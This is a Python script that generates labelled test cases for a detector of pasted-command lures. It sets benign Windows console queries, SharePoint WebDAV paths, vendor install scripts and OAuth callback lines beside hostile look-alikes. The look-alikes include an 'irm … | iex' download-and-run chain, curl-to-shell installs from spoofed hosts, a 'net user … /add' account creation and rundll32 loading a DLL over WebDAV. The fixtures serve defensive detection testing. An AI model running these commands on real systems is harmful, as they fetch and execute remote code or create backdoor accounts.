"""Writes tests/data/cases/b17benign.jsonl: the kinds of ordinary text BLIND-17's benign misses
stand for (helper "b17benign", 2026-12-07), written here from general knowledge of such texts,
each cleared beside the look-alikes that try to abuse the clearing and must stay flagged.

    python tests/data/cases/make_b17benign.py

Deterministic. Invented hosts are reserved names (*.test, *.example, *.invalid); the three real
projects the trust list now names (Task, kitty, xh) are quoted with their own documented
scripts. No blind set's text, lure collection or other detector's fixture is copied. Each line is
{id, text, expect, technique, platform, source, target}.

Cleared here, by kind:

- `typed-console-query`: typed into the Run box (no source), a console kept open on a command
  that only shows this computer's or its domain's state: Kerberos tickets (`cmd /k klist`), the
  connected shares (`net use`), the domain controller (`nltest /dsgetdc:<domain>`), WMI's serial
  number inside cmd's quotes, `Test-ComputerSecureChannel -Verbose`. Purging tickets, connecting
  a drive, resetting the channel, a second command or a page writing it stay a command.
- `typed-admin-console`: a console snap-in aimed at another computer by name (`dhcpmgmt.msc
  /ComputerName dhcp01`, `taskschd.msc /s srv01`), Remote Desktop's settings window for a .rdp
  file here (`mstsc /edit`), a Control Panel item's tab by number. A share, an address, a file
  to connect with or run, a .rdp file in a Downloads or temporary folder (a rogue server's, which
  a page had saved), a page writing it stay a command.
- `typed-tenant-library`: an organisation's SharePoint library by its WebDAV address typed into
  Explorer or the Run box. A file in it, another host, a program given it or a page writing it
  stay flagged.
- `third-party-installer`: someone else's page (a team handbook, a Confluence page, a lab, a
  blog, a starter repository's README) giving a project's own install script: a database's
  domain with `db` after the name people use (quarrydb for quarry), a company's Confluence read
  as the wiki it is, a repository named for the project with its own words after the name
  (grimoire-template fetching the grimoire repository), and three real projects whose script
  host spells no name a page could carry (the trust list: Task, kitty, xh). A host joined to
  other words, a name in another place of the repository's, a known vendor's name, an issue
  page and look-alike hosts stay flagged.
- `oauth-request-line`: an HTTP request line of OAuth documentation (`GET http://localhost:8080/
  callback?code=…`), which no address bar shows. The address alone or with a request to paste it
  stays a ConsentFix lure.
- `prose-lolbin-list`: a report's sentence listing living-off-the-land binaries with the
  placeholder share reports write (`\\\\host@SSL\\DavWWWRoot`), pasted where nothing runs. A
  public host or an address in it stays flagged.
"""

from __future__ import annotations

from pathlib import Path

from casefile import Book, write  # beside this script, which runs as tests/data/cases/make_*.py

OUT = Path(__file__).with_name("b17benign.jsonl")
TERMINAL = "terminal"
RUN = "run_dialog"
BAR = "explorer_bar"
UNKNOWN = "unknown"
OTHER = "other"
HELP_PAGE = "https://www.pc-help-desk17.test/fix-network"
CHECK_PAGE = "https://verify-session.umbra-stage.test/check"


def typed_console_query(book: Book) -> None:
    tech = "typed-console-query"
    for text in (
        r"cmd /k klist tickets",
        r'cmd /k "klist tgt"',
        r"cmd /k net share",
        r'cmd /k "net accounts"',
        r"cmd /k nltest /sc_query:ad.contoso.example",
        r'cmd /k "nltest /dclist:emea.fabrikam.test"',
        r"cmd /k nltest /dsgetsite",
        r'cmd /k "ipconfig /all"',
        r'cmd /k "wmic csproduct get name,identifyingnumber"',
        r'cmd /k "getmac /v"',
        r"powershell -NoExit -Command Test-ComputerSecureChannel",
        r'pwsh -NoExit -c "Get-NetAdapter -Verbose"',
    ):
        book.add(tech, text, "not_flagged", "windows", RUN)
    # the same kept windows written by a help page for the Run box: a command there
    for text in (r"cmd /k klist tickets", r"cmd /k net share"):
        book.add(tech, text, "flagged", "windows", RUN, HELP_PAGE)
    for text in (
        r'cmd /k "klist purge"',
        r'cmd /k "net use Z: \\fs01\x"',
        r"cmd /k net user helpdesk P@ss1 /add",
        r"cmd /k nltest /dsgetdc:corp.example /server:198.51.100.7",
        r'cmd /k "nltest /sc_reset:corp.example"',
        r'cmd /k "nltest /dsgetdc:\\x.example\s"',
        r'powershell -NoExit -Command "Test-ComputerSecureChannel -Repair"',
        r'cmd /k "wmic /node:10.0.0.5 bios get serialnumber"',
        r'cmd /k "wmic process call create calc"',
    ):
        book.add(tech, text, "flagged", "windows", RUN)
    book.add(
        tech,
        r'powershell -NoExit -Command "Test-ComputerSecureChannel -Verbose; irm https://upd.stage17.test/a | iex"',
        "malicious",
        "windows",
        RUN,
    )


def typed_admin_console(book: Book) -> None:
    tech = "typed-admin-console"
    for text in (
        r"dnsmgmt.msc /ComputerName dc02.corp.example",
        r"compmgmt.msc /s fs-03",
        r"mmc services.msc /computername:app01",
        r"eventvwr.msc /s 10.20.0.15",
        r'mstsc /edit "%USERPROFILE%\Documents\Jump host.rdp"',
        r"mstsc /edit D:\rdp\lab-vm.rdp",
        r"control /name Microsoft.Keyboard /page 2",
        r"control.exe /name Microsoft.Sound /page 1",
    ):
        book.add(tech, text, "not_flagged", "windows", RUN)
    for text in (
        r"dnsmgmt.msc /ComputerName dc02.corp.example",
        r"mstsc /edit D:\rdp\lab-vm.rdp",
    ):
        book.add(tech, text, "flagged", "windows", RUN, HELP_PAGE)
    for text in (
        r"mstsc /edit \\fs01.corp.example\it\jump.rdp",
        r"mstsc C:\Users\Public\Desktop\support.rdp",
        r"mstsc /edit https://rdp.stage17.test/a.rdp",
        r"mstsc /edit %TEMP%\viewer.exe",
        # a .rdp file where a browser or a mail saves what a page hands out: a rogue server's
        r'mstsc /edit "%USERPROFILE%\Downloads\Payroll portal.rdp"',
        r"mstsc /edit C:\Users\kim\AppData\Local\Temp\vpn.rdp",
        r"dhcpmgmt.msc /ComputerName \\files17.test\share",
        r"control /name Microsoft.Mouse /page 1 & calc",
    ):
        book.add(tech, text, "flagged", "windows", RUN)
    book.add(tech, r"taskschd.msc /s \\10.1.1.1@SSL\x", "malicious", "windows", RUN)


def typed_tenant_library(book: Book) -> None:
    tech = "typed-tenant-library"
    libraries = (
        r"\\contoso.sharepoint.com@SSL\DavWWWRoot\sites\Marketing\Shared Documents",
        r"\\fabrikam.sharepoint.com@SSL@443\DavWWWRoot\teams\Ops\Documents\Runbooks",
        r"\\contoso-my.sharepoint.com@SSL\DavWWWRoot\personal\j_doe_contoso_com\Documents",
        "\\\\tailspin.sharepoint.com@SSL\\DavWWWRoot\\sites\\RH\\Documents partages\\",
        r"\\northwind.sharepoint.com@SSL\sites\Legal\Shared Documents",
    )
    for text in libraries:
        book.add(tech, text, "not_flagged", "windows", BAR)
    book.add(tech, libraries[0], "not_flagged", "windows", RUN)
    # written by a page: a web folder a stranger chose
    for text in libraries[:2]:
        book.add(tech, text, "flagged", "windows", BAR, "https://www.notary-files17.test/open")
    for text in (
        r"\\sharepoint.contoso-docs.test@SSL\DavWWWRoot\sites\HR",
        r"\\contoso.sharepoint.com.files17.test@SSL\DavWWWRoot\sites\HR",
        r"\\files17.test@SSL\DavWWWRoot\sites\HR\Shared Documents",
    ):
        book.add(tech, text, "flagged", "windows", BAR)
    for text in (
        r"\\contoso.sharepoint.com@SSL\DavWWWRoot\sites\HR\Shared Documents\invoice.lnk",
        r"\\192.0.2.5@SSL\DavWWWRoot\sites\HR",
        r"rundll32 \\contoso.sharepoint.com@SSL\DavWWWRoot\sites\x\a.dll,Start",
    ):
        book.add(tech, text, "malicious", "windows", BAR)


def third_party_installer(book: Book) -> None:
    tech = "third-party-installer"
    handbook = "https://gitlab.platform-team.test/handbook/-/blob/main/onboarding/{}.md"
    before = "## Before you start\n\nWe use {0}. Install it with the upstream script:\n\n{1}\n"
    # a database's domain: the name people use with `db` after it
    for page, name, line in (
        (handbook, "quarry", "curl -fsSL https://install.quarrydb.example | sh"),
        ("https://notes.homelab17.test/{}-on-my-pi", "quarry",
         "curl -sSf https://get.quarrydb.test/install.sh | sh"),
        ("https://qa.sysadmin-answers17.test/questions/88/how-to-install-{}", "lumen",
         "curl -fsSL https://lumendb.example/install.sh | bash"),
        ("https://learn.bootcamp17.test/modules/{}/setup", "lumen",
         "curl -sSfL https://install.lumendb.test | sh"),
        ("https://wiki.acme17.test/display/ENG/{}", "kestrel",
         "curl -sSf https://kestreldb.example/install.sh | sh"),
    ):  # fmt: skip
        book.add(tech, before.format(name, line), "not_flagged", "linux", TERMINAL,
                 page.format(name))  # fmt: skip
    for page, line in (
        # a name joined to other words, or with more than `db` after it: another owner's
        (handbook.format("quarry"), "curl -fsSL https://quarry-db-install.example | sh"),
        (handbook.format("quarry"), "curl -fsSL https://quarrydbx.example/install.sh | sh"),
        # a fake check page's word in the page's address vouches for nothing
        ("https://verify-human.quarry17.test/quarry", "curl -fsSL https://quarrydb.example | sh"),
    ):
        book.add(tech, before.format("quarry", line), "flagged", "linux", TERMINAL, page)
    # a company's Confluence is its wiki: a page there about turso or quarry is about software
    confluence = "https://confluence.{}.test/display/{}/{}"
    approved = "Install {0} per vendor instructions (approved by security, ticket OPS-{1}):\n{2}"
    for company, space, name, line in (
        ("globex-bank", "PLAT", "turso", "curl -sSfL https://get.tur.so/install.sh | bash"),
        ("initech", "DATA", "quarry", "curl -fsSL https://install.quarrydb.example | sh"),
        ("umbrella-pay", "DEV", "lumen", "curl -fsSL https://lumendb.example/install.sh | bash"),
        ("hooli", "ENG", "kestrel", "curl -sSf https://kestreldb.example/install.sh | sh"),
        ("vandelay", "OPS", "micro", "curl https://getmic.ro | bash"),
    ):
        page = confluence.format(company, space, name)
        book.add(tech, approved.format(name, len(company) * 7, line), "not_flagged", "linux",
                 TERMINAL, page)  # fmt: skip
    stranger = "curl -fsSL https://m17.unrelated-host.test/setup.sh | bash"
    book.add(tech, approved.format("turso", 4411, stranger), "flagged", "linux", TERMINAL,
             confluence.format("globex-bank", "PLAT", "turso"))  # fmt: skip
    book.add(tech, approved.format("turso", 4412, "curl -sSfL https://tur.so.m17.test/i | bash"),
             "flagged", "linux", TERMINAL, confluence.format("globex-bank", "PLAT", "turso"))  # fmt: skip
    # a repository named for the project, with its own words after the name
    prereq = "### Prerequisites\n\n- {0} (see its docs)\n\n```sh\n{1}\n```\n"
    for page, name, line in (
        ("https://github.com/northwind-labs/grimoire-template/blob/main/README.md", "grimoire",
         "curl -fsSL https://raw.githubusercontent.com/grimoire-dev/grimoire/main/install.sh | sh"),
        ("https://github.com/fabrikam/lazyfox-config", "lazyfox",
         "curl -s https://raw.githubusercontent.com/jdoe17/lazyfox/master/install.sh | bash"),
        ("https://github.com/acme-analytics/kestrel-demo/blob/main/README.md", "kestrel",
         "curl -sSfL https://raw.githubusercontent.com/kestrel-io/kestrel/main/scripts/install.sh | sh"),
        ("https://github.com/tailspin/wobble-ci-action", "wobble",
         "curl -sL https://raw.githubusercontent.com/wobbleproj/wobble/main/install.sh | sudo sh"),
        ("https://github.com/contoso/quillpad-starter-kit/blob/main/README.md", "quillpad",
         "curl -fsSL https://raw.githubusercontent.com/quill-org/quillpad/v2/get.sh | bash"),
    ):  # fmt: skip
        book.add(tech, prereq.format(name, line), "not_flagged", "linux", TERMINAL, page)
    for page, name, line in (
        # the project's name not first in the repository's
        ("https://github.com/northwind-labs/starter-grimoire", "grimoire",
         "curl -fsSL https://raw.githubusercontent.com/grimoire-dev/grimoire/main/install.sh | sh"),
        # an organisation's word after the name (the project's own, or a look-alike of it)
        ("https://github.com/northwind-labs/grimoire-labs", "grimoire",
         "curl -fsSL https://raw.githubusercontent.com/grimoire-dev/grimoire/main/install.sh | sh"),
        # another repository's name than the one the page carries
        ("https://github.com/northwind-labs/grimoire-template", "grimoire",
         "curl -fsSL https://raw.githubusercontent.com/grimoire-dev/grimoirex/main/install.sh | sh"),
        # a known vendor's name: a page about Homebrew vouches for no one else's copy of it
        ("https://github.com/northwind-labs/homebrew-starter", "homebrew",
         "curl -fsSL https://raw.githubusercontent.com/brew-mirror17/homebrew/main/install.sh | bash"),
        # what someone wrote in the repository's issues is not its owner's word
        ("https://github.com/northwind-labs/grimoire-template/issues/12", "grimoire",
         "curl -fsSL https://raw.githubusercontent.com/grimoire-dev/grimoire/main/install.sh | sh"),
    ):  # fmt: skip
        book.add(tech, prereq.format(name, line), "flagged", "linux", TERMINAL, page)
    # the trust list's three: their script hosts spell no name a page about them carries
    for page, text in (
        ("https://github.com/jdoe17/dotfiles/blob/main/README.md",
         "Terminal: kitty, from its own installer\n\ncurl -L https://sw.kovidgoyal.net/kitty/installer.sh | sh /dev/stdin"),
        ("https://blog.devnotes17.test/posts/my-terminal-setup",
         "curl -L https://sw.kovidgoyal.net/kitty/installer.sh | sh /dev/stdin launch=n"),
        ("https://qa.sysadmin-answers17.test/questions/91/install-go-task-without-brew",
         'sh -c "$(curl --location https://taskfile.dev/install.sh)" -- -d -b /usr/local/bin'),
        ("https://wiki.acme17.test/display/ENG/build-tooling",
         'Build runner:\nsh -c "$(curl --location https://taskfile.dev/install.sh)" -- -d'),
        ("https://notes.homelab17.test/http-clients",
         "curl -sfL https://raw.githubusercontent.com/ducaale/xh/master/install.sh | sh"),
        ("https://learn.bootcamp17.test/modules/http/setup",
         "curl -sfL https://raw.githubusercontent.com/ducaale/xh/master/install.sh | XH_BINDIR=$HOME/.local/bin sh"),
    ):  # fmt: skip
        book.add(tech, text, "not_flagged", "linux", TERMINAL, page)
    for text in (
        "curl -L https://sw.kovidgoyal.net.m17.test/kitty/installer.sh | sh /dev/stdin",
        'sh -c "$(curl --location https://taskfile.dev.m17.test/install.sh)" -- -d',
        "curl -sfL https://raw.githubusercontent.com/ducaale-dev/xh/master/install.sh | sh",
        "curl -sL https://taskfile-dev.test/install.sh | sh",
    ):
        book.add(tech, text, "flagged", "linux", TERMINAL, "https://notes.homelab17.test/tools")


def oauth_request_line(book: Book) -> None:
    tech = "oauth-request-line"
    docs = "https://docs.auth-sdk17.test/guides/authorization-code"
    for text, target in (
        ("GET http://localhost:3000/auth/callback?code=abc123def&state=xyz789", UNKNOWN),
        ("POST http://127.0.0.1:8400/oauth2/callback?code=SplxlOBeZQQYbYS6WxSbIA&state=af0ifjsl "
         "HTTP/1.1", UNKNOWN),
        ("GET http://localhost:8080/login/oauth2/code/google?code=4%2F0Adeu5BWq8e&scope=openid "
         "HTTP/1.1", UNKNOWN),
        ("GET http://[::1]:9000/oauth/callback?code=Qk8s2dXy7Tq0bLmZ&state=st17", UNKNOWN),
        ("GET http://localhost:5173/callback?code=p7Zr0wK3nQx91LmB&session_state=a1b2", UNKNOWN),
    ):  # fmt: skip
        book.add(tech, text, "not_flagged", "any", target, docs)
    book.add(tech, "GET http://localhost:3000/auth/callback?code=abc123def&state=xyz789",
             "not_flagged", "any", UNKNOWN)  # fmt: skip
    lure = "https://account-verify17.test/step2"
    for text in (
        "http://localhost:8080/callback?code=4%2F0AbCD17xyz&scope=email%20profile",
        "Copy the address from your browser and paste it below: "
        "http://localhost:8080/callback?code=4%2F0AbCD17xyz&scope=email",
        "GET\nhttp://localhost:8080/callback?code=4%2F0AbCD17xyz&scope=email",
    ):
        book.add(tech, text, "flagged", "any", UNKNOWN, lure)


def prose_lolbin_list(book: Book) -> None:
    tech = "prose-lolbin-list"
    report = "https://research.threat-notes17.test/2026/11/intrusion-set"
    for text in (
        "Attackers abused rundll32.exe loading a DLL from \\\\server@SSL\\DavWWWRoot and "
        "certutil.exe -urlcache to fetch the next stage.",
        "Researchers observed certutil.exe -urlcache -split -f fetching the second stage while "
        "conhost.exe --headless hid the window, and rundll32.exe loading from \\\\host@SSL\\dav.",
        "In the third wave the actors moved to mshta.exe and WebDAV paths such as "
        "\\\\fileserver@80\\dav, then to finger.exe and certutil.exe -urlcache.",
        "Defenders should alert on conhost.exe --headless, on certutil.exe -urlcache and on "
        "rundll32.exe given a path like \\\\host@SSL\\DavWWWRoot.",
        "None of these binaries is unusual on its own: rundll32.exe reading from "
        "\\\\share.corp@SSL\\DavWWWRoot, certutil.exe -urlcache, conhost.exe --headless.",
    ):
        book.add(tech, text, "not_flagged", "windows", UNKNOWN, report)
    book.add(tech, "Attackers abused rundll32.exe loading a DLL from \\\\server@SSL\\DavWWWRoot "
             "and certutil.exe -urlcache to fetch the next stage.", "not_flagged", "windows",
             OTHER)  # fmt: skip
    for text in (
        "Seen in the campaign: rundll32.exe loading from \\\\198.51.100.7@SSL\\DavWWWRoot and "
        "certutil.exe -urlcache fetching the stage.",
        "Seen in the campaign: rundll32.exe loading from \\\\files.stage17.test@SSL\\DavWWWRoot "
        "and certutil.exe -urlcache fetching the stage.",
    ):
        book.add(tech, text, "flagged", "windows", UNKNOWN, report)


def build() -> list[dict[str, str]]:
    book = Book("b17b")
    typed_console_query(book)
    typed_admin_console(book)
    typed_tenant_library(book)
    third_party_installer(book)
    oauth_request_line(book)
    prose_lolbin_list(book)
    return book.cases


CASES = build()


def main() -> None:
    write(OUT, CASES)


if __name__ == "__main__":
    main()
